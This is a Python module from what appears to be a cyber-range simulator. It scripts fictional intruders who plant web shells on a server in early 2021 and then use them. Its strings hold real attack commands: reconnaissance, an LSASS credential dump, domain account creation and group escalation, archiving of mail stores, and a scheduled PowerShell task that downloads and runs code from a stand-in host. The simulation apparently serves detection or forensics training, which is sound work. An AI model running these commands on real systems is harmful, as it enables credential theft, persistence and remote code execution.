"""What each role does and when: one function for each, which plans its sessions.

A role takes a `Story` and a hand. It says `story.at(day, hour, what, client)`; sessions are then
held in order of time, so that a page is there before somebody comes through it. To add a role,
write its function, name it in `ROLES`, and say in `cast.py` which agents and tells it has.
"""

from __future__ import annotations

from collections.abc import Callable, Mapping
from datetime import date, timedelta

from msgspec import Struct

from afterpatch.range import windows
from afterpatch.range.draw import below, digits, letters, pick, shuffled
from afterpatch.range.hands.cast import Client, Hand
from afterpatch.range.hands.play import (
    PUBLIC_HASHES,
    PUBLIC_TOOL,
    Door,
    Impact,
    Play,
    Session,
)
from afterpatch.range.stage import ASPNET_CLIENT, MINUTE, SECOND

JANUARY = date(2021, 1, 4)
MARCH = date(2021, 3, 2)
LAST_VISIT = date(2021, 4, 8)  # from the 9th on pages are removed
_LOOKING_ROUND = (
    "whoami", "ipconfig /all", "tasklist", "quser", "systeminfo", "net user",
    'net group "domain admins" /domain', "nltest /domain_trusts", "netstat -ano", "arp -a",
)  # fmt: skip
# Visitors that run commands.
COMMANDERS = ("ant", "requests", "browser", "dropper", "downloader", "account")
_TEMP = "C:\\Windows\\Temp"

Deed = Callable[[Session], None]


class Appointment(Struct):
    """A session to be held: when, by whom, and what is done in it."""

    at: int
    hand: Hand
    client: Client
    deed: Deed


class Story(Struct):
    """Sessions planned so far. On the `busy` day many visitors come."""

    play: Play
    busy: date
    planned: list[Appointment] = []

    def at(self, day: date, hour: float, hand: Hand, client: Client, deed: Deed) -> None:
        """Plan a session for a time of the story."""
        self.planned.append(Appointment(self.play.moment(day, hour), hand, client, deed))

    def held(self) -> None:
        """Hold every session, the earliest first."""
        for planned in sorted(self.planned, key=lambda planned: planned.at):
            planned.deed(self.play.session(planned.client, planned.hand, planned.at))

    def day(self, first: date, last: date) -> date:
        """Some day from the first to the last."""
        return first + timedelta(days=below(self.play.rng, (last - first).days + 1))

    def hour(self) -> float:
        """Some time of the day, in hours: intruders keep no office hours."""
        return below(self.play.rng, 23) + self.play.rng.random() * 0.7


def plan_roles(story: Story) -> None:
    """Plan what every intruder of the cast does."""
    for hand in story.play.cast.hands:
        if hand.role in ROLES:
            ROLES[hand.role](story, hand)


# ------------------------------------------------------------------ who plants


def planter(story: Story, hand: Hand) -> None:
    """In January, before anybody knows: mail is read, or a page planted, or both."""
    rng = story.play.rng
    first = story.day(JANUARY + timedelta(days=1), date(2021, 1, 26))
    others = [h for h in story.play.cast.hands if h.role == "automation"]
    plants = bool(hand.tells) or not others or rng.random() < 0.7
    reads = not plants or rng.random() < 0.5
    resource, main = _chain(story, hand, first, plants=plants, known=0.6, scouted=0.5)
    if reads:

        def read(session: Session) -> None:
            session.look(resource)
            session.read_mail(
                resource, shuffled(rng, story.play.stage.mail.users)[: 1 + below(rng, 3)]
            )

        # Mail first, when nothing else has been done yet.
        story.at(first - timedelta(days=1), story.hour(), hand, main, read)
    if plants:
        _return(story, hand, hand.clients, first + timedelta(days=1), date(2021, 2, 20))
        if rng.random() < 0.4:
            _return(story, hand, hand.clients[-1:], MARCH, LAST_VISIT)


def automation(story: Story, hand: Hand) -> None:
    """Around 28 February: plants a page, often a second one too, and asks whether they work."""
    rng = story.play.rng
    first = story.day(date(2021, 2, 26), date(2021, 3, 1))
    _chain(story, hand, first, plants=True, known=0.3, scouted=0, pages=1 + (rng.random() < 0.4))
    for _ in range(below(rng, 3)):
        client = pick(rng, hand.clients)

        def check(session: Session) -> None:
            for door in _own(session):
                session.visit(door)

        story.at(story.day(MARCH, date(2021, 3, 24)), story.hour(), hand, client, check)


def _chain(
    story: Story,
    hand: Hand,
    day: date,
    *,
    plants: bool,
    known: float,
    scouted: float,
    pages: int = 1,
) -> tuple[str, Client]:
    """The chain, by two clients when they share a canary, and the first requests for its pages.

    The check comes from the hand's other clients where it has any that don't come otherwise.
    `known` is the share of page names that others have used too, `scouted` how often the day before
    sees a first look. Returns the static name that is asked for, and the client that begins.
    """
    rng, clients = story.play.rng, hand.clients
    shared = next((tell for tell in hand.tells if tell.kind == "canary"), None)
    canary = shared.value if shared else f"{letters(rng, 75)}."
    first = clients[shared.one] if shared else clients[0]
    second = clients[shared.other] if shared else first
    opened = Session(story.play, first, hand, 0)
    resource = opened.resource()

    def plant(session: Session) -> None:
        session.enter(resource, canary)
        later = Session(story.play, second, hand, session.clock + 3 * SECOND)
        doors: list[Door] = []
        while len(doors) < pages:
            doors.append(later.reset(resource, canary, known=known, beside=doors))
        rest = [c for c in clients if c not in (first, second)] or [second]
        for door in doors:
            later.wait(25 * SECOND)
            for client in rest:
                check = Session(story.play, client, hand, later.clock)
                check.wait(10 * SECOND)
                check.visit(door, method=pick(rng, ("GET", "POST")))
                if "tool" in client.does:
                    _tool(check, door)
                later.clock = max(later.clock, check.clock)
        for client in {first.id: first, second.id: second}.values():
            if client.does - {"canary"} and client not in rest:
                own = Session(story.play, client, hand, later.clock)
                own.wait(40 * SECOND)
                own.visit(doors[0])
                if "tool" in client.does:
                    _tool(own, doors[0])
                later.clock = own.clock

    hour = story.hour()
    if plants:
        story.at(day, hour, hand, first, plant)
    if rng.random() < scouted:
        story.at(day - timedelta(days=1), hour, hand, first, lambda session: session.look(resource))
    return resource, first


def _return(story: Story, hand: Hand, clients: list[Client], since: date, until: date) -> None:
    """Comes again through its own page."""

    def again(session: Session) -> None:
        for door in _own(session)[:1]:
            for _ in range(1 + below(session.rng, 4)):
                session.visit(door, pick(session.rng, ("", *_LOOKING_ROUND)))
                session.wait(30 * SECOND)
            if "tool" in session.client.does:
                _tool(session, door)

    for client in clients:
        if story.play.rng.random() < 0.7:
            story.at(story.day(since, until), story.hour(), hand, client, again)


def _own(session: Session) -> list[Door]:
    mine = {client.id for client in session.hand.clients}
    return [
        door for door in session.play.doors if door.by.id in mine and door.planted < session.clock
    ]


def _door(session: Session, favorite: list[Door]) -> Door:
    """The door that a visitor takes: mostly the same one. The session waits for the first."""
    doors = session.play.standing(session.clock)
    if not doors:
        door = min(session.play.doors, key=lambda d: d.planted)
        session.clock = max(session.clock, door.planted + 3 * MINUTE)
        return door
    known = [door for door in favorite if door in doors]
    if known and session.rng.random() < 0.85:
        return known[0]
    # The page that everybody talks about, or another one.
    door = doors[0] if session.rng.random() < 0.5 else pick(session.rng, doors)
    favorite.insert(0, door)
    return door


# ------------------------------------------------------------------ who comes through doors


def _visits(story: Story, hand: Hand, deed: Callable[[Session, Door], None], more: int = 3) -> None:
    """Every client of a visitor comes at least once, some again, mostly through the same door."""
    rng, favorite = story.play.rng, list[Door]()
    since = story.busy if rng.random() < 0.5 else story.day(MARCH, date(2021, 3, 20))
    clients = [*hand.clients, *(pick(rng, hand.clients) for _ in range(below(rng, more)))]

    def come(session: Session) -> None:
        door = _door(session, favorite)
        if session.finds(door):
            deed(session, door)
        else:
            session.visit(door)

    hour = story.hour()
    for client in clients:
        story.at(since, hour, hand, client, come)
        hour = min(hour + 3 + below(rng, 8) * 24 + story.hour(), (LAST_VISIT - since).days * 24)


def _tool(session: Session, door: Door) -> None:
    """A program of the hand's own, dropped through the page, or again, and run."""
    image = session.hand.tool
    session.upload(door, image, "a program is dropped")
    session.wait(8 * SECOND)
    session.visit(door, f"{image} -s", image=image, hashes=session.hand.hashes)


def _work(session: Session, door: Door, commands: int) -> None:
    """Looks round; some dump credentials with the program that everybody has."""
    rng = session.rng
    for command in shuffled(rng, _LOOKING_ROUND)[:commands]:
        session.visit(door, command if rng.random() < 0.7 else "")
        session.wait(25 * SECOND)
    if "tool" in session.client.does:
        _tool(session, door)
    elif rng.random() < 0.4:
        image, dump = f"{_TEMP}\\{PUBLIC_TOOL}", f"{_TEMP}\\{letters(rng, 5)}.dmp"
        session.upload(door, image, "a public program is dropped")
        session.visit(
            door, f"{image} -accepteula -ma lsass.exe {dump}", image=image, hashes=PUBLIC_HASHES
        )
        opened = [windows.lsass_opened(image, 5120), windows.file_created(image, 5120, dump)]
        session.lay(opened, "the memory of lsass is written to a file", "command", before=900)
        impact = Impact("credential dump", "T1003.001", PUBLIC_TOOL)
        if impact not in session.play.impacts:
            session.play.impacts.append(impact)


def commander(story: Story, hand: Hand) -> None:
    """Runs commands through others' pages, by a tool made for it or by a script."""
    _visits(story, hand, lambda session, door: _work(session, door, 2 + below(session.rng, 6)))


def browser(story: Story, hand: Hand) -> None:
    """Opens the page in a browser, then posts its form."""

    def look(session: Session, door: Door) -> None:
        session.visit(door, method="GET")
        referer = f"https://198.51.100.10{door.page.url}"
        for _ in range(1 + below(session.rng, 4)):
            session.wait(30 * SECOND)
            session.visit(door, pick(session.rng, ("", *_LOOKING_ROUND)), referer=referer)
        if "tool" in session.client.does:
            _tool(session, door)

    _visits(story, hand, look)


def tunnel(story: Story, hand: Hand) -> None:
    """Small posts by the dozen within minutes: a tunnel into the network behind."""
    plain = story.play.rng.random() < 0.5

    def dig(session: Session, door: Door) -> None:
        rng = session.rng
        session.visit(door, method="GET")
        target = f"target=10.0.20.{5 + below(rng, 60)}&port={pick(rng, (445, 3389, 389))}"
        session.visit(door, query=f"cmd=connect&{target}" if plain else "")
        for number in range(30 + below(rng, 60)):
            word = "cmd=read" if number % 2 else "cmd=forward"
            session.visit(door, query=word if plain else "", took=4 + below(rng, 12), got=120)
        session.visit(door, query="cmd=disconnect" if plain else "")

    _visits(story, hand, dig, more=2)


def downloader(story: Story, hand: Hand) -> None:
    """Packs files below the web site and fetches them, often from elsewhere."""
    staged: list[int] = []

    def stage(session: Session, door: Door) -> None:
        packer = "C:\\ProgramData\\7z.exe"
        place = f"{ASPNET_CLIENT}\\{session.hand.archive}"
        session.visit(door, "dir C:\\ProgramData")
        session.wait(MINUTE)
        session.visit(
            door, f"{packer} a -p{digits(session.rng, 6)} {place} C:\\ProgramData\\pst",
            image=packer, took=9000,
        )  # fmt: skip
        session.lay([windows.file_created(packer, 6240, place)], "files are packed", before=400)
        staged.append(session.clock)
        session.play.impacts += [
            Impact("staging", "T1560.001", session.hand.archive),
            Impact("exfiltration", "T1567", session.hand.archive),
        ]

    first = hand.clients[0]
    fetchers = [client for client in hand.clients if "archive" in client.does and client != first]

    def come(session: Session, door: Door) -> None:
        if session.client == first and not staged:
            stage(session, door)
            # Fetched within the hour, by those who share nothing else with who packed it.
            for client in fetchers or [first]:
                later = Session(session.play, client, hand, session.clock)
                later.wait(10 * MINUTE)
                later.fetch(hand.archive, 8_000_000 + below(later.rng, 90_000_000))
        elif session.client not in fetchers:
            _work(session, door, 2)

    _visits(story, hand, come)


def dropper(story: Story, hand: Hand) -> None:
    """Writes a page of its own through somebody else's, and uses that one."""
    own: list[Door] = []

    def come(session: Session, door: Door) -> None:
        if not own and session.clock < door.gone:
            session.visit(door, "whoami")
            own.append(session.plant_through(door))
            session.wait(20 * SECOND)
        there = [page for page in own if page.planted < session.clock]
        _work(session, there[0] if there else door, 1 + below(session.rng, 4))

    _visits(story, hand, come)


def account(story: Story, hand: Hand) -> None:
    """Makes an account, or steals a password, through a page; signs in with it from elsewhere."""
    made: list[str] = []

    def come(session: Session, door: Door) -> None:
        if "account" not in session.client.does:
            _work(session, door, 2)
        elif session.client == hand.clients[0]:
            session.visit(door, pick(session.rng, _LOOKING_ROUND))
            if not made:
                made.append(hand.account)
                _get_account(session, door)
        else:
            session.sign_in()
            if "parameter" in session.client.does:
                session.visit(door)

    _visits(story, hand, come)


def _get_account(session: Session, door: Door) -> None:
    name, rng = session.hand.account, session.rng
    if session.hand.owner:
        session.visit(door, f"net use \\\\fs01\\c$ /user:EXAMPLE\\{name} {letters(rng, 9)}")
        session.play.impacts.append(Impact("lateral movement", "T1021.002", "net use"))
        return
    session.visit(door, f"net user {name} {letters(rng, 9)}! /add /domain")
    session.wait(5 * SECOND)
    session.visit(door, f'net group "Organization Management" {name} /add /domain')
    session.play.impacts.append(
        Impact("persistence", "T1136.002", name, door="account", thing=name)
    )


def miner(story: Story, hand: Hand) -> None:
    """A bot that knows the pages of others, and makes the server dig."""
    task = f"{pick(story.play.rng, ('blackball', 'Winnet', 'rtsa'))}{digits(story.play.rng, 2)}"

    def come(session: Session, door: Door) -> None:
        url = f"http://t{digits(session.rng, 3)}.example.net/a.jsp"
        script = f"-w hidden -c IEX(New-Object Net.WebClient).DownloadString('{url}')"
        session.visit(
            door, f'schtasks /create /ru system /sc MINUTE /mo 60 /tn {task} /f /tr "powershell '
            f'{script}"',
        )  # fmt: skip
        registered = windows.task(f"\\{task}", "powershell", script.replace("'", "&apos;"))
        session.lay(registered, "a task is registered", "command", before=1100)
        impact = Impact("miner", "T1496", task, door="scheduled task", thing=f"\\{task}")
        if impact not in session.play.impacts:
            session.play.impacts.append(impact)

    _visits(story, hand, come, more=1)


ROLES: Mapping[str, Callable[[Story, Hand], None]] = {
    "planter": planter,
    "automation": automation,
    "ant": commander,
    "requests": commander,
    "browser": browser,
    "tunnel": tunnel,
    "downloader": downloader,
    "dropper": dropper,
    "account": account,
    "miner": miner,
}
